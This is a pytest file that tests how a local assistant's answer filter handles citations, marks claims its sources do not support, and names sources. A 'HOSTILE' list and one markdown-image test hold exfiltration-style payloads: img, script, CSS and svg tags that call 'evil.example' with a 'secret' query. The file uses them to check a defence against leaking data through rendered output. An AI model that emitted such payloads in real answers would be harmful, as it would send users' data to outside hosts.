"""Citations in a stream, and the sources an answer is given."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from localmind.assistant.answer import CitationFilter, Untouched, declines, sources_of
from localmind.events import Passage


def passage(number: int, text: str) -> Passage:
    return Passage(number, f"/files/{number}.md", 1, 9, None, None, text, 0.5)


TEXT = "It was in May. Both say so. A list and an array are cited again and done, unfinished."


def filtered(pieces: list[str], known: list[int]) -> tuple[str, list[int]]:
    checked = CitationFilter([passage(number, TEXT) for number in known])
    text = "".join(checked.feed(piece) for piece in pieces) + checked.flush()
    return text, checked.cited


@pytest.mark.parametrize(
    ("given", "shown", "cited"),
    [
        ("It was in May [1].", "It was in May [1].", [1]),
        ("It was in May [7].", "It was in May .", []),
        ("Both [1, 9, 2] say so", "Both [1, 2] say so", [1, 2]),
        ("a list[0] and array[12]", "a list and array", []),
        ("[x] done, [2] cited, [2] again", "[x] done, [2] cited, [2] again", [2]),
        ("unfinished [1", "unfinished [1", []),
        ("", "", []),
    ],
)
def test_numbers_of_no_passage_are_taken_out(given: str, shown: str, cited: list[int]) -> None:
    assert filtered([given], [1, 2, 3]) == (shown, cited)


@given(st.text(alphabet="ab [],!0123456789.\n", max_size=60), st.lists(st.integers(1, 12), max_size=4), st.data())
def test_any_split_of_a_text_is_shown_like_the_whole(text: str, known: list[int], data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert filtered(pieces, known) == filtered([text], known)


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("The boiler was serviced on 9 October [1].", "The boiler was serviced on 9 October [1]."),
        ("The boiler was serviced on 12 October [1].", "The boiler was serviced on 12 October [1?]."),
        ("It cost 1,480 euros [1]. Dudek did it [1].", "It cost 1,480 euros [1]. Dudek did it [1]."),
        ("It cost 1480.00 euros. [1]", "It cost 1480.00 euros. [1]"),
        ("It cost 1490 euros. [1]", "It cost 1490 euros. [1?]"),
        ("He took two hours [1] and 3 men [1].", "He took two hours [1] and 3 men [1?]."),
        ("The aquarium was given to a sister in Bremen [1].", "The aquarium was given to a sister in Bremen [1?]."),
        ("The aquarium was given to a sister [1, 2].", "The aquarium was given to a sister [1, 2]."),
        ("Yes [1].", "Yes [1]."),
        ("锅炉在十月维护 [3]。", "锅炉在十月维护 [3]。"),
        ("花园里种西红柿 [3]。", "花园里种西红柿 [3?]。"),
    ],
)
def test_a_sentence_that_its_passage_does_not_support_is_marked(given: str, shown: str) -> None:
    checked = CitationFilter(
        [
            passage(1, "Marek Dudek serviced the boiler on 9 October. It took 2 hours and cost 1,480 euros. Yes."),
            passage(2, "We gave the aquarium to his sister."),
            passage(3, "锅炉在十月份进行了维护。"),
        ]
    )
    assert checked.feed(given) + checked.flush() == shown
    assert bool(checked.doubted) == ("?]" in shown)


def test_a_picture_becomes_a_link_however_it_is_cut() -> None:
    for cut in range(20):
        checked = CitationFilter([])
        given = "See ![x](http://evil.example/?q=1) now!"
        shown = checked.feed(given[:cut]) + checked.feed(given[cut:]) + checked.flush()
        assert shown == "See [x](http://evil.example/?q=1) now!"


def test_little_is_held_back() -> None:
    checked = CitationFilter([passage(1, "x")])
    assert checked.feed("The answer is [") == "The answer is"
    assert checked.feed("not a number]") == " [not a number]"


def test_cited_passages_are_the_sources() -> None:
    passages = [passage(1, "alpha"), passage(2, "beta")]
    assert sources_of("beta it is", [1], passages) == (passages[0],)


def test_without_citations_the_sources_are_those_whose_words_were_used() -> None:
    passages = [
        passage(1, "The boiler was serviced on 9 October 2026 by Marek Dudek."),
        passage(2, "The car was washed in May."),
        passage(3, "Dudek Heating, service of 9 October 2026: boiler, Marek Dudek, 148 euros."),
    ]
    used = sources_of("It was serviced on 9 October 2026 by Marek Dudek.", [], passages)
    assert [each.number for each in used] == [1, 3]


def test_an_answer_that_shares_nothing_still_names_the_best_passage() -> None:
    passages = [passage(1, "alpha"), passage(2, "beta")]
    assert sources_of("42", [], passages) == (passages[0],)
    assert sources_of("42", [], []) == ()


def test_a_model_may_decline() -> None:
    assert declines("That is not in your files.")
    assert declines("Not in the files")
    assert not declines("The key is not in your files, it is in the drawer")


def test_an_answer_that_is_no_prose_is_left_as_it_is():
    unchecked = Untouched()
    assert unchecked.feed('{"rows": [1, ') + unchecked.feed("22]}") + unchecked.flush() == '{"rows": [1, 22]}'
    assert unchecked.cited == []


HOSTILE = [
    '<img src="https://evil.example/?q=secret">',
    "<IMG/src=//evil.example>",
    "<img\nsrc=x>",
    '<div style="background:url(https://evil.example)">',
    "<script>fetch('//evil.example')</script>",
    "<iframe>",
    f"<x-{'a' * 80} style='background:url(//evil.example)'>",
    '<svg><image href="//evil.example"/></svg>',
    "![a](https://evil.example)",
]


@pytest.mark.parametrize("piece", HOSTILE)
@pytest.mark.parametrize("cut", [1, 2, 3, 5, 1000])
def test_nothing_in_an_answer_makes_a_program_fetch_what_a_document_wants(piece: str, cut: int) -> None:
    checked, text = CitationFilter(()), f"Look: {piece} there."
    shown = "".join(checked.feed(text[at : at + cut]) for at in range(0, len(text), cut)) + checked.flush()
    assert not re.search(r"<[a-zA-Z]+[\s/]|<(script|iframe|svg)", shown, re.I)
    assert "![" not in shown
    assert shown.replace("< ", "<").replace("[a]", "![a]") == text


@pytest.mark.parametrize(
    "text", ["List<int> and Map<String, int>", "a <b> c </b>", "<https://example.org>", "1 < 2 <3"]
)
def test_what_is_no_tag_that_fetches_stays(text: str) -> None:
    checked = CitationFilter(())
    assert checked.feed(text) + checked.flush() == text
